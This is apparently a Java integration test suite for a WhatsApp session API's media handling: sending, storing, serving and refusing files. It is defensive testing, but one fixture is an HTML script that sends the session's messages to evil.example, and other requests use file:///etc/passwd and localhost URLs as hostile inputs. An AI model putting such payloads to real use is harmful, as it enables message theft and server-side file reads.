package io.kubezap.session.api;

import io.kubezap.session.engine.MediaKind;
import io.kubezap.session.testing.SampleMedia;
import io.kubezap.session.testing.EmbeddedPostgresResource;
import io.kubezap.session.testing.SimulatedWhatsApp;
import io.kubezap.session.testing.SimulatedWhatsApp.Delivered;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import jakarta.inject.Inject;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import io.kubezap.session.testing.CraftedMedia;
import io.kubezap.session.testing.CraftedMedia.Segment;
import io.kubezap.session.testing.Needs;

import java.nio.file.Files;
import java.nio.file.Path;

import java.util.Arrays;
import java.util.Base64;

import static io.kubezap.session.testing.Api.SESSION;
import static io.kubezap.session.testing.Api.authorized;
import static io.kubezap.session.testing.SampleFiles.pdf;
import static io.kubezap.session.testing.SampleFiles.png;
import static io.kubezap.session.testing.SampleFiles.sha256;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.endsWith;

/** The media API over the test engine: what is sent, stored, announced and served, and what is refused. */
@QuarkusTest
@QuarkusTestResource(EmbeddedPostgresResource.class)
class MediaApiTest {

    private static final String MARIA = "5511988887777@s.whatsapp.net";

    @Inject
    SimulatedWhatsApp whatsapp;

    @BeforeEach
    void connectedWithNoHistory() {
        whatsapp.resetToConnected();
        authorized().delete(SESSION + "/messages").then().statusCode(200);
    }

    @Test
    void aBase64ImageIsStoredWithItsMediaBlockAndSentAsThatFile() {
        byte[] image = png(30, 20, 1);
        String id = authorized().body("{\"to\":\"5511988887777\",\"type\":\"image\",\"caption\":\"Nova coleção\","
                        + "\"media\":{\"data\":\"" + Base64.getEncoder().encodeToString(image) + "\"}}")
                .post(SESSION + "/messages").then().statusCode(202)
                .body("type", equalTo("image"))
                .body("text", equalTo("Nova coleção"))
                .body("media.mimeType", equalTo("image/png"))
                .body("media.size", equalTo(image.length))
                .body("media.sha256", equalTo(sha256(image)))
                .body("media.caption", equalTo("Nova coleção"))
                .extract().path("id");
        authorized().get(SESSION + "/messages/" + id).then().body("media.url", equalTo(SESSION + "/messages/" + id + "/media"));

        Delivered sent = awaitDelivered();
        assertThat(sent.media().kind()).isEqualTo(MediaKind.IMAGE);
        assertThat(sent.media().caption()).isEqualTo("Nova coleção");
        assertThat(sent.fileBytes()).isEqualTo(image);
        await().untilAsserted(() -> authorized().get(SESSION + "/messages/" + id).then().body("status", equalTo("sent")));
        authorized().queryParam("type", "message.sent").get(SESSION + "/events").then()
                .body("items[0].payload.media.sha256", equalTo(sha256(image)));
    }

    @Test
    void aMultipartVoiceNoteIsStreamedFromItsPart() {
        byte[] voice = SampleMedia.oggOpus(1);
        authorized().contentType(ContentType.MULTIPART)
                .multiPart("to", "5511988887777").multiPart("type", "voice")
                .multiPart("file", "nota.ogg", voice, "audio/ogg; codecs=opus")
                .post(SESSION + "/messages").then().statusCode(202)
                .body("type", equalTo("voice"))
                .body("media.mimeType", equalTo("audio/ogg; codecs=opus"));

        Delivered sent = awaitDelivered();
        assertThat(sent.media().kind()).isEqualTo(MediaKind.VOICE);
        assertThat(sent.fileBytes()).isEqualTo(voice);
    }

    @Test
    void aReceivedFileIsDownloadedOnArrivalAndServedWithRangesAndItsChecksum() {
        byte[] document = pdf(10_000, System.nanoTime()); // new content: the store keeps files by hash across runs
        whatsapp.receiveMedia("WAID-DOC-1", MARIA, MediaKind.DOCUMENT, document, "application/pdf", "nota-fiscal.pdf", "Sua nota");
        String id = await().until(() -> authorized().get(SESSION + "/messages?direction=in").then()
                .extract().<String>path("items[0].id"), found -> found != null);
        await().until(() -> whatsapp.mediaFetches() == 1);

        String path = SESSION + "/messages/" + id + "/media";
        byte[] whole = authorized().get(path).then().statusCode(200)
                .contentType("application/pdf")
                .header("ETag", "\"" + sha256(document) + "\"")
                .header("Content-Length", String.valueOf(document.length))
                .header("Content-Disposition", equalTo("attachment; filename=\"nota-fiscal.pdf\"; filename*=UTF-8''nota-fiscal.pdf"))
                .extract().asByteArray();
        assertThat(whole).isEqualTo(document);
        assertThat(authorized().header("Range", "bytes=-100").get(path).then().statusCode(206)
                .header("Content-Range", "bytes 9900-9999/10000").extract().asByteArray())
                .isEqualTo(Arrays.copyOfRange(document, 9900, 10000));
        authorized().header("If-None-Match", "\"" + sha256(document) + "\"").get(path).then().statusCode(304);
        authorized().header("Range", "bytes=20000-").get(path).then().statusCode(416)
                .header("Content-Range", "bytes */10000");
        assertThat(whatsapp.mediaFetches()).as("served from the volume").isEqualTo(1);
    }

    @Test
    void aContactsPageIsNeverServedAsAPageToRunInTheApisOrigin() {
        byte[] page = ("<html><script>fetch('/api/v1/sessions/loja-01/messages').then(r => r.text())"
                + ".then(t => navigator.sendBeacon('https://evil.example/', t))</script>" + System.nanoTime()).getBytes();
        whatsapp.receiveMedia("WAID-HTML-1", MARIA, MediaKind.DOCUMENT, page, "text/html", "fatura.html", null);
        String id = await().until(() -> authorized().get(SESSION + "/messages?direction=in").then()
                .extract().<String>path("items.find { it.waMessageId == 'WAID-HTML-1' }.id"), found -> found != null);

        authorized().get(SESSION + "/messages/" + id + "/media").then().statusCode(200)
                .contentType("application/octet-stream")
                .header("Content-Disposition", org.hamcrest.Matchers.startsWith("attachment;"))
                .header("X-Content-Type-Options", "nosniff")
                .header("Content-Security-Policy", org.hamcrest.Matchers.containsString("sandbox"));
    }

    /**
     * Issue 68 item 5: a contact's "voice note" or "video" that is an HLS playlist, a DASH manifest or an ffconcat list
     * is refused when its sound is asked for, as a send of it would be (415: not audio or video by its bytes); one that
     * passes for an MP3 (a DASH manifest behind an ID3 tag) is refused by FFmpeg's demuxer whitelist (422). FFmpeg
     * opens nothing any of them names (a FIFO that tells when it is opened).
     */
    @ParameterizedTest
    @CsvSource({CraftedMedia.HLS + ",415,unsupported-media-type", CraftedMedia.DASH + ",415,unsupported-media-type",
            CraftedMedia.FFCONCAT + ",415,unsupported-media-type", CraftedMedia.DASH_BEHIND_ID3 + ",422,media-unreadable"})
    void aContactsPlaylistGivesNoSoundAndWhatItNamesIsNeverOpened(String crafted, int status, String problem,
                                                                  @TempDir Path dir) throws Exception {
        if (status == 422) {
            // refused by FFmpeg's own reading; the others are refused before FFmpeg runs
            Needs.command("ffmpeg", "ffmpeg");
        }
        for (MediaKind kind : new MediaKind[]{MediaKind.VOICE, MediaKind.AUDIO}) {
            Segment segment = Segment.at(Files.createDirectories(dir.resolve(kind.wire())).resolve(CraftedMedia.segmentName(crafted)));
            try {
                byte[] file = CraftedMedia.naming(crafted, segment.path(), kind + " " + System.nanoTime()).getBytes();
                String waId = "WAID-" + crafted + "-" + kind + "-" + System.nanoTime();
                whatsapp.receiveMedia(waId, MARIA, kind, file, kind == MediaKind.VOICE ? "audio/ogg; codecs=opus" : "audio/mpeg",
                        null, null);
                String id = await().until(() -> authorized().get(SESSION + "/messages?direction=in").then()
                        .extract().<String>path("items.find { it.waMessageId == '" + waId + "' }.id"), found -> found != null);
                await().until(() -> authorized().get(SESSION + "/messages/" + id + "/media").statusCode() == 200);

                var answer = authorized().queryParam("format", "mp3").get(SESSION + "/messages/" + id + "/media");

                assertThat(segment.opened()).as("FFmpeg opened %s, named by the %s file", segment.path(), crafted).isFalse();
                answer.then().statusCode(status).contentType("application/problem+json").body("type", endsWith(problem));
            } finally {
                segment.release();
            }
        }
    }

    @Test
    void aTextHasNoMediaAndAMediaMessageWithoutItsFileSaysWhy() {
        whatsapp.receive("WAID-TXT-1", MARIA, "oi");
        String id = await().until(() -> authorized().get(SESSION + "/messages?direction=in").then()
                .extract().<String>path("items[0].id"), found -> found != null);
        authorized().get(SESSION + "/messages/" + id + "/media").then().statusCode(404)
                .contentType("application/problem+json");
        authorized().get(SESSION + "/messages/nope/media").then().statusCode(404);
    }

    @Test
    void aUrlThatCannotBeFetchedMarksTheMessageFailedWithTheReason() {
        // TEST-NET-1 (RFC 5737): a public address nothing answers on, so the guard lets it through and the fetch fails
        String id = authorized().body("{\"to\":\"5511988887777\",\"type\":\"image\",\"media\":{\"url\":\"http://192.0.2.1/foto.png\"}}")
                .post(SESSION + "/messages").then().statusCode(202)
                .body("media.fileName", equalTo("foto.png"))
                .extract().path("id");

        await().atMost(java.time.Duration.ofSeconds(60)).untilAsserted(() -> authorized().get(SESSION + "/messages/" + id).then()
                .body("status", equalTo("failed"))
                .body("failureReason", org.hamcrest.Matchers.containsString("could not be fetched from its URL")));
        assertThat(whatsapp.delivered()).isEmpty();
    }

    @Test
    void refusedFilesLeaveNothingQueued() {
        String png = Base64.getEncoder().encodeToString(png(10, 10, 4));
        refuse("{\"to\":\"5511988887777\",\"type\":\"image\"}", 400, "validation-failed");
        refuse("{\"to\":\"5511988887777\",\"type\":\"image\",\"media\":{\"data\":\"***\"}}", 400, "validation-failed");
        refuse("{\"to\":\"5511988887777\",\"type\":\"image\",\"media\":{\"data\":\"" + png + "\",\"url\":\"https://example.com/a.png\"}}",
                400, "validation-failed");
        refuse("{\"to\":\"5511988887777\",\"type\":\"voice\",\"caption\":\"x\",\"media\":{\"data\":\"" + png + "\"}}",
                400, "validation-failed");
        refuse("{\"to\":\"5511988887777\",\"type\":\"image\",\"mimeType\":\"image/jpeg\",\"media\":{\"data\":\"" + png + "\"}}",
                415, "unsupported-media-type");
        refuse("{\"to\":\"5511988887777\",\"type\":\"video\",\"media\":{\"data\":\"" + png + "\"}}", 415, "unsupported-media-type");
        refuse("{\"to\":\"5511988887777\",\"type\":\"sticker\",\"media\":{\"data\":\""
                + Base64.getEncoder().encodeToString(new byte[2 * 1024 * 1024]) + "\"}}", 413, "media-too-large");
        refuse("{\"to\":\"5511988887777\",\"type\":\"image\",\"media\":{\"url\":\"http://localhost:1/x.png\"}}", 400, "url-not-allowed");
        refuse("{\"to\":\"5511988887777\",\"type\":\"image\",\"media\":{\"url\":\"file:///etc/passwd\"}}", 400, "url-not-allowed");
        authorized().contentType(ContentType.MULTIPART).multiPart("to", "5511988887777").multiPart("type", "document")
                .post(SESSION + "/messages").then().statusCode(400).body("errors.field", org.hamcrest.Matchers.hasItem("file"));

        authorized().get(SESSION + "/messages").then().body("items.size()", equalTo(0));
        assertThat(whatsapp.delivered()).isEmpty();
    }

    private static void refuse(String body, int status, String problem) {
        authorized().body(body).post(SESSION + "/messages").then().statusCode(status)
                .contentType("application/problem+json").body("type", endsWith(problem));
    }

    private Delivered awaitDelivered() {
        await().until(() -> whatsapp.delivered().size() == 1);
        return whatsapp.delivered().getFirst();
    }
}
